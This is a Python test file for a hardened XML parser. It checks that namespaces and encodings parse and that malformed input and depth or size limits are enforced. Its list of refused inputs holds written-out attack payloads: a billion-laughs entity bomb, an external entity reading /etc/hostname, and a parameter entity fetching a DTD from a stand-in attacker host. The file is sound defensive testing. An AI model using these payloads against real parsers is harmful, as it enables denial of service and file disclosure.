"""XML from the network: read where it is harmless, refused where it is not."""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from timclient.cards.konnektor.xml import MOST_BYTES, MOST_DEPTH, MOST_ELEMENTS, parse
from timclient.domain.errors_konnektor import KonnektorAnswerInvalid

BOMB = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;">]><lolz>&c;</lolz>"""
OUTSIDE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
PARAMETERS = b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><a/>'


def test_elements_text_and_attributes() -> None:
    root = parse(b'<a xmlns="urn:x" xmlns:p="urn:y"><p:b p:k="1"> t&amp;<c/>u </p:b><b/></a>')
    assert (root.namespace, root.name) == ("urn:x", "a")
    first = root.children[0]
    assert (first.namespace, first.name, first.attributes) == ("urn:y", "b", {"k": "1"})
    assert root.text_at("b") == "t&u"
    assert len(list(root.all("b"))) == 2
    assert root.child("b", "c") is not None
    assert root.child("b", "d", "e") is None
    assert root.text_at("none") == ""


def test_other_encodings() -> None:
    assert (
        parse('<?xml version="1.0" encoding="iso-8859-1"?><a>ä</a>'.encode("latin-1")).text == "ä"
    )
    assert parse("<a>ä</a>".encode("utf-16")).text == "ä"


@pytest.mark.parametrize(
    "content",
    [
        BOMB,
        OUTSIDE,
        PARAMETERS,
        b"<!DOCTYPE html><html/>",
        b"",
        b"hello",
        b"<a>",
        b"<a/><b/>",
        b"<a>&x;</a>",
        b"<a b='1' b='2'/>",
        b"\xff\xfe<",
        b'<?xml version="1.0" encoding="klingon"?><a/>',
        b'<?xml version="1.0" encoding="utf-7"?><a/>',
        b"<a>\x00</a>",
        b"<p:a/>",
        b"<a>" * (MOST_DEPTH + 1) + b"</a>" * (MOST_DEPTH + 1),
        b"<a>" + b"<b/>" * MOST_ELEMENTS + b"</a>",
        b"<a>" + b" " * MOST_BYTES + b"</a>",
    ],
)
def test_refused(content: bytes) -> None:
    with pytest.raises(KonnektorAnswerInvalid):
        parse(content)


def test_as_deep_as_allowed() -> None:
    parse(b"<a>" * MOST_DEPTH + b"</a>" * MOST_DEPTH)


@given(st.binary(max_size=300))
def test_any_bytes(content: bytes) -> None:
    with contextlib.suppress(KonnektorAnswerInvalid):
        parse(content)


@given(st.text(alphabet="<>/ab=\"'&;![]?- ", max_size=80))
def test_almost_xml(content: str) -> None:
    with contextlib.suppress(KonnektorAnswerInvalid):
        parse(content.encode())
